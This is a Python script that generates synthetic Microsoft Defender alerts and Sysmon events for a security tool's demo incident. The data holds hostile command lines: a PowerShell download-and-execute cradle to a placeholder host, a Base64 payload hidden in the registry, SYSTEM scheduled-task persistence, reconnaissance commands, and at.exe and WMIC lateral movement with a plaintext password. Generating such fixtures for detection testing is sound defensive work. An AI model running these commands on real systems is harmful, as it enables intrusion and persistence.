#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes Hitome's demo incident: defender-alerts.json in the Defender for
Endpoint alerts API format (GET /api/alerts?$expand=evidence, an OData page),
and sysmon-events.jsonl, the hosts' Sysmon and Security events for the same
processes as a SIEM would export them (NXLog JSON lines): process creations,
the registry write and the task registrations, so hunting, recon and the
timeline have something to show.
Three stories: host A's one-time schtasks backdoor; hosts B-E's encoded
PowerShell registry cradle and the daily SYSTEM task "Updater" on three of
them; host F's attacker shell (recon, at, wmic). Deterministic output."""

import base64
import hashlib
import json
import os
from xml.sax.saxutils import escape as xml_escape
from datetime import datetime, timedelta, timezone

TENANT = "5f2b7c1e-8d3a-4b6f-9e0d-2a7c4e1b9f30"
DOMAIN = "CONTOSO"


def ts(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%07dZ" % (t.microsecond * 10)


def h(text, n=64):
    return hashlib.sha256(text.encode()).hexdigest()[:n]


def enc(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


EMPTY = {k: None for k in [
    "sha1", "sha256", "fileName", "filePath", "processId", "processCommandLine", "processCreationTime",
    "parentProcessId", "parentProcessCreationTime", "parentProcessFileName", "parentProcessFilePath",
    "ipAddress", "url", "registryKey", "registryHive", "registryValueType", "registryValue", "accountName",
    "domainName", "userSid", "aadUserId", "userPrincipalName", "detectionStatus"]}


class Proc:
    def __init__(self, pid, path, cmd, start, parent=None, user="vmadmin"):
        self.pid, self.path, self.cmd, self.start, self.parent, self.user = pid, path, cmd, start, parent, user


# Processes named in the evidence since the last alert; alert() assigns them
# to its host, and they become that host's Sysmon process creations.
PENDING = []
EVENTS = []          # (time, host, fields) of every event for sysmon-events.jsonl
SEEN = set()


def guid(host, p):
    d = h("%s|%d|%s" % (host, p.pid, ts(p.start)), 32)
    return "{%s-%s-%s-%s-%s}" % (d[:8], d[8:12], d[12:16], d[16:20], d[20:32])


def account(p):
    return "NT AUTHORITY\\SYSTEM" if p.user == "SYSTEM" else DOMAIN + "\\" + p.user


def add_event(when, host, event_id, channel, provider, **fields):
    EVENTS.append((when, host, dict(EventID=event_id, Channel=channel, SourceName=provider, **fields)))


def add_process_creation(host, p):
    key = (host, p.pid, p.start)
    if key in SEEN:
        return
    SEEN.add(key)
    if p.parent:
        add_process_creation(host, p.parent)
    fields = dict(ProcessGuid=guid(host, p), ProcessId=str(p.pid), Image=p.path, CommandLine=p.cmd, User=account(p),
                  IntegrityLevel="System" if p.user == "SYSTEM" else "High")
    if p.parent:
        fields.update(ParentProcessGuid=guid(host, p.parent), ParentProcessId=str(p.parent.pid),
                      ParentImage=p.parent.path, ParentCommandLine=p.parent.cmd)
    add_event(p.start, host, 1, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", **fields)


def evidence(entity, created, **fields):
    e = {"entityType": entity, "evidenceCreationTime": ts(created)}
    e.update(EMPTY)
    e.update(fields)
    return e


def proc_evidence(p, created, detected=False):
    PENDING.append(p)
    d, f = p.path.rsplit("\\", 1)
    fields = dict(sha1=h(p.path + "1", 40), sha256=h(p.path), fileName=f, filePath=d, processId=p.pid,
                  processCommandLine=p.cmd, processCreationTime=ts(p.start), accountName=p.user,
                  domainName=DOMAIN if p.user not in ("SYSTEM",) else "NT AUTHORITY",
                  detectionStatus="Detected" if detected else None)
    if p.parent:
        pd, pf = p.parent.path.rsplit("\\", 1)
        fields.update(parentProcessId=p.parent.pid, parentProcessCreationTime=ts(p.parent.start),
                      parentProcessFileName=pf, parentProcessFilePath=pd)
    return evidence("Process", created, **fields)


def user_evidence(name, created, sid):
    return evidence("User", created, accountName=name, domainName=DOMAIN, userSid=sid,
                    userPrincipalName=name + "@contoso.com")


COUNTER = [0]


def alert(host, title, desc, category, severity, techniques, first, last, user, ev, incident):
    for p in PENDING:
        add_process_creation(host, p)
    PENDING.clear()
    COUNTER[0] += 1
    n = COUNTER[0]
    return {
        "id": "da6385%013d_%d" % (n * 7919, -1000000 - n * 37), "incidentId": incident, "investigationId": None,
        "assignedTo": None, "severity": severity, "status": "New", "classification": None, "determination": None,
        "investigationState": "PendingApproval", "detectionSource": "WindowsDefenderAtp",
        "detectorId": "%s-%s-%s-%s-%s" % (h(title)[:8], h(title)[8:12], h(title)[12:16], h(title)[16:20], h(title)[20:32]),
        "category": category, "threatFamilyName": None, "title": title, "description": desc,
        "alertCreationTime": ts(last + timedelta(minutes=2, seconds=17)), "firstEventTime": ts(first),
        "lastEventTime": ts(last), "lastUpdateTime": ts(last + timedelta(minutes=3)), "resolvedTime": None,
        "machineId": h(host, 40), "computerDnsName": host, "rbacGroupName": "Servers" if "srv" in host else "Workstations",
        "aadTenantId": TENANT, "threatName": None, "mitreTechniques": techniques,
        "relatedUser": {"userName": user, "domainName": DOMAIN}, "comments": [], "evidence": ev,
    }


def story_a(alerts):
    host, t0 = "wks-a.contoso.local", datetime(2024, 11, 12, 13, 31, 4, 512000, timezone.utc)
    explorer = Proc(4120, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", t0 - timedelta(hours=3))
    cmd = Proc(6280, r"C:\Windows\System32\cmd.exe", r'"C:\Windows\system32\cmd.exe" ', t0 - timedelta(minutes=2), explorer)
    schtasks = Proc(7012, r"C:\Windows\System32\schtasks.exe",
                    r"schtasks.exe /create /SC ONCE /TN Troj /TR C:\Users\vmadmin\Desktop\WinATP-Intro-Backdoor.exe /ST 13:36 /F",
                    t0, cmd)
    sid = "S-1-5-21-3623811015-3361044348-30300820-1013"
    ev = [user_evidence("vmadmin", t0, sid), proc_evidence(cmd, t0), proc_evidence(schtasks, t0, True),
          evidence("File", t0, fileName="WinATP-Intro-Backdoor.exe", filePath=r"C:\Users\vmadmin\Desktop",
                   sha1=h("backdoor", 40), sha256=h("backdoor"))]
    alerts.append(alert(host, "An anomalous scheduled task was created",
                        "A scheduled task was created that runs a program from a user's desktop once. Attackers "
                        "register tasks to run their tools later or as another user.", "Persistence", "Medium",
                        ["T1053.005"], t0, t0, "vmadmin", ev, 4101))
    t1 = datetime(2024, 11, 12, 13, 36, 0, 870000, timezone.utc)
    services = Proc(712, r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe", t0 - timedelta(days=2), user="SYSTEM")
    svchost = Proc(1384, r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
                   t0 - timedelta(days=2), services, user="SYSTEM")
    backdoor = Proc(7544, r"C:\Users\vmadmin\Desktop\WinATP-Intro-Backdoor.exe",
                    r"C:\Users\vmadmin\Desktop\WinATP-Intro-Backdoor.exe", t1, svchost)
    ev = [proc_evidence(svchost, t1), proc_evidence(backdoor, t1, True),
          evidence("Ip", t1, ipAddress="198.51.100.23"), user_evidence("vmadmin", t1, sid)]
    alerts.append(alert(host, "Suspicious program started by a scheduled task",
                        "The Task Scheduler service started a program stored on a user's desktop that then "
                        "connected to an external address.", "Execution", "High", ["T1053.005", "T1204.002"],
                        t1, t1 + timedelta(seconds=4), "vmadmin", ev, 4101))


CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/update/news.ps1')"
UPDATER = ('schtasks /Create /F /RU SYSTEM /SC DAILY /ST 10:51 /TN Updater /TR "powershell -NonI -W hidden -c IEX '
           '([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((gp HKLM:\\Software\\Microsoft\\Network).debug)))"')


def task_xml(registered, author):
    """TaskContent of a 4698 event for the daily SYSTEM task Updater."""
    action = UPDATER.split('/TR "', 1)[1][:-1]
    command, arguments = action.split(" ", 1)
    return ('<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" '
            'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <RegistrationInfo>\r\n'
            '    <Date>%s</Date>\r\n    <Author>%s\\%s</Author>\r\n    <URI>\\Updater</URI>\r\n'
            '  </RegistrationInfo>\r\n  <Triggers>\r\n    <CalendarTrigger>\r\n'
            '      <StartBoundary>%sT10:51:00</StartBoundary>\r\n      <Enabled>true</Enabled>\r\n'
            '      <ScheduleByDay>\r\n        <DaysInterval>1</DaysInterval>\r\n      </ScheduleByDay>\r\n'
            '    </CalendarTrigger>\r\n  </Triggers>\r\n  <Principals>\r\n    <Principal id="Author">\r\n'
            '      <UserId>S-1-5-18</UserId>\r\n      <RunLevel>LeastPrivilege</RunLevel>\r\n    </Principal>\r\n'
            '  </Principals>\r\n  <Settings>\r\n    <Enabled>true</Enabled>\r\n    <Hidden>false</Hidden>\r\n'
            '  </Settings>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n      <Command>%s</Command>\r\n'
            '      <Arguments>%s</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>'
            % (registered.strftime("%Y-%m-%dT%H:%M:%S"), DOMAIN, author, registered.strftime("%Y-%m-%d"),
               command, xml_escape(arguments)))


def story_bcde(alerts):
    payload = enc(CRADLE)
    writer = ("New-Item -Path HKLM:\\Software\\Microsoft\\Network -Force | Out-Null; Set-ItemProperty -Path "
              "HKLM:\\Software\\Microsoft\\Network -Name debug -Value '%s'" % payload)
    for i, name in enumerate(["srv-b", "srv-c", "srv-d", "srv-e"]):
        host = name + ".contoso.local"
        t0 = datetime(2024, 11, 13, 10, 38, 12, 104000, timezone.utc) + timedelta(minutes=3 * i, seconds=11 * i)
        wmi = Proc(3012 + i * 8, r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
                   t0 - timedelta(hours=5), user="SYSTEM")
        ps = Proc(5120 + i * 16, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                  "powershell.exe -NoP -NonI -W Hidden -enc " + enc(writer), t0, wmi, user="svc_backup")
        ev = [proc_evidence(ps, t0, True),
              evidence("Registry", t0, registryKey=r"SOFTWARE\Microsoft\Network", registryHive="HKEY_LOCAL_MACHINE",
                       registryValueType="String", registryValue=payload),
              user_evidence("svc_backup", t0, "S-1-5-21-3623811015-3361044348-30300820-1107")]
        add_event(t0 + timedelta(milliseconds=850), host, 13, "Microsoft-Windows-Sysmon/Operational",
                  "Microsoft-Windows-Sysmon", EventType="SetValue", ProcessGuid=guid(host, ps), ProcessId=str(ps.pid),
                  Image=ps.path, TargetObject="HKLM\\SOFTWARE\\Microsoft\\Network\\debug", Details=payload,
                  User=account(ps))
        alerts.append(alert(host, "Encoded PowerShell stored a script in the registry",
                            "PowerShell ran an encoded command that wrote Base64 text into a registry value. "
                            "Attackers hide script payloads in the registry to run them later without a file.",
                            "DefenseEvasion", "High", ["T1027", "T1112", "T1059.001"], t0, t0 + timedelta(seconds=2),
                            "svc_backup", ev, 4102))
        if i == 3:
            continue
        t1 = t0 + timedelta(minutes=1, seconds=40)
        ps2 = Proc(5240 + i * 16, ps.path, "powershell.exe -NoP -NonI -W Hidden -enc " + enc(UPDATER), t1, wmi, user="svc_backup")
        sch = Proc(5300 + i * 16, r"C:\Windows\System32\schtasks.exe", UPDATER, t1 + timedelta(milliseconds=640), ps2,
                   user="svc_backup")
        ev = [proc_evidence(ps2, t1), proc_evidence(sch, t1, True),
              user_evidence("svc_backup", t1, "S-1-5-21-3623811015-3361044348-30300820-1107")]
        add_event(t1 + timedelta(seconds=1), host, 4698, "Security", "Microsoft-Windows-Security-Auditing",
                  SubjectUserSid="S-1-5-21-3623811015-3361044348-30300820-1107", SubjectUserName="svc_backup",
                  SubjectDomainName=DOMAIN, TaskName="\\Updater", TaskContent=task_xml(t1, "svc_backup"))
        alerts.append(alert(host, "A daily SYSTEM task runs a script read from the registry",
                            "Encoded PowerShell created the scheduled task 'Updater' that runs every day as SYSTEM "
                            "and executes the script stored in HKLM\\Software\\Microsoft\\Network.",
                            "Persistence", "High", ["T1053.005", "T1059.001"], t1, t1 + timedelta(seconds=1),
                            "svc_backup", ev, 4102))


RECON = [("tasklist.exe", "tasklist"), ("cmd.exe", "cmd.exe /c ver"), ("ipconfig.exe", "ipconfig /all"),
         ("systeminfo.exe", "systeminfo"), ("net.exe", "net time"), ("NETSTAT.EXE", "netstat -ano"),
         ("whoami.exe", "whoami /all"), ("net.exe", "net view"), ("net.exe", "net user /domain"),
         ("cmd.exe", r"cmd.exe /c dir C:\Users\jdoe\Documents")]


def story_f(alerts):
    host, t0 = "wks-f.contoso.local", datetime(2024, 11, 14, 9, 2, 51, 330000, timezone.utc)
    sid = "S-1-5-21-3623811015-3361044348-30300820-1144"
    explorer = Proc(3388, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", t0 - timedelta(hours=1), user="jdoe")
    beacon = Proc(6612, r"C:\Users\jdoe\AppData\Local\Temp\svchost.exe", r"C:\Users\jdoe\AppData\Local\Temp\svchost.exe",
                  t0 - timedelta(minutes=9), explorer, user="jdoe")
    ev = [proc_evidence(beacon, t0 - timedelta(minutes=9), True), evidence("Ip", t0, ipAddress="203.0.113.45"),
          user_evidence("jdoe", t0, sid)]
    alerts.append(alert(host, "Unsigned program named like a system binary connected to the internet",
                        "A program called svchost.exe started from the user's Temp folder and connected out. The "
                        "real svchost.exe lives in System32.", "CommandAndControl", "High", ["T1071.001", "T1036.005"],
                        t0 - timedelta(minutes=9), t0 - timedelta(minutes=8), "jdoe", ev, 4103))
    shell = Proc(6840, r"C:\Windows\System32\cmd.exe", "cmd.exe", t0, beacon, user="jdoe")
    ev = [proc_evidence(beacon, t0), proc_evidence(shell, t0, True)]
    t = t0
    for image, cmdline in RECON:
        t = t + timedelta(seconds=23)
        folder = r"C:\Windows\System32\wbem" if image == "WMIC.exe" else r"C:\Windows\System32"
        ev.append(proc_evidence(Proc(7000 + len(ev) * 4, folder + "\\" + image, cmdline, t, shell, user="jdoe"), t))
    ev.append(user_evidence("jdoe", t0, sid))
    alerts.append(alert(host, "Anomalous system and account discovery from a command shell",
                        "A command shell started by an unusual program ran a burst of reconnaissance commands "
                        "(process list, OS version, network configuration, accounts, shares).", "Discovery", "Medium",
                        ["T1057", "T1082", "T1016", "T1124", "T1049", "T1033", "T1135", "T1087.002", "T1083"],
                        t0, t, "jdoe", ev, 4103))
    t2 = t + timedelta(minutes=2, seconds=5)
    at = Proc(7420, r"C:\Windows\System32\at.exe", r"at \\10.0.0.5 12:00 cmd /c C:\Windows\Temp\mal.exe", t2, shell, user="jdoe")
    ev = [proc_evidence(shell, t2), proc_evidence(at, t2, True), evidence("Ip", t2, ipAddress="10.0.0.5"),
          evidence("File", t2, fileName="mal.exe", filePath=r"C:\Windows\Temp", sha1=h("mal", 40), sha256=h("mal"))]
    alerts.append(alert(host, "Remote scheduled job created with at.exe",
                        "The legacy at command scheduled a program to run on another computer, a known way to "
                        "move laterally.", "LateralMovement", "High", ["T1053.002", "T1021.002"], t2, t2, "jdoe", ev, 4103))
    t3 = t2 + timedelta(minutes=1, seconds=12)
    wmic = Proc(7510, r"C:\Windows\System32\wbem\WMIC.exe",
                r'wmic /node:10.0.0.6 /user:"CONTOSO\svc_backup" /password:"Autumn2024!" process call create '
                r'"cmd /c C:\Windows\Temp\mal.exe"', t3, shell, user="jdoe")
    ev = [proc_evidence(shell, t3), proc_evidence(wmic, t3, True), evidence("Ip", t3, ipAddress="10.0.0.6"),
          user_evidence("svc_backup", t3, "S-1-5-21-3623811015-3361044348-30300820-1107")]
    alerts.append(alert(host, "Remote process creation through WMI with explicit credentials",
                        "WMIC started a program on another computer using a service account's password typed on "
                        "the command line.", "LateralMovement", "High", ["T1047", "T1078.002"], t3, t3, "jdoe", ev, 4103))


def main():
    alerts = []
    story_a(alerts)
    story_bcde(alerts)
    story_f(alerts)
    page = {"@odata.context": "https://api.securitycenter.microsoft.com/api/$metadata#Alerts", "value": alerts}
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "resources", "demo", "defender-alerts.json")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        json.dump(page, f, indent=2, ensure_ascii=False)
        f.write("\n")
    print("wrote %d alerts to %s" % (len(alerts), out))
    out = os.path.join(os.path.dirname(out), "sysmon-events.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for n, (when, host, fields) in enumerate(sorted(EVENTS, key=lambda e: (e[0], e[1])), 1):
            line = {"@timestamp": when.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (when.microsecond // 1000),
                    "Hostname": host, "RecordNumber": 1000 + n}
            line.update(fields)
            f.write(json.dumps(line, ensure_ascii=False) + "\n")
    print("wrote %d events to %s" % (len(EVENTS), out))


if __name__ == "__main__":
    main()
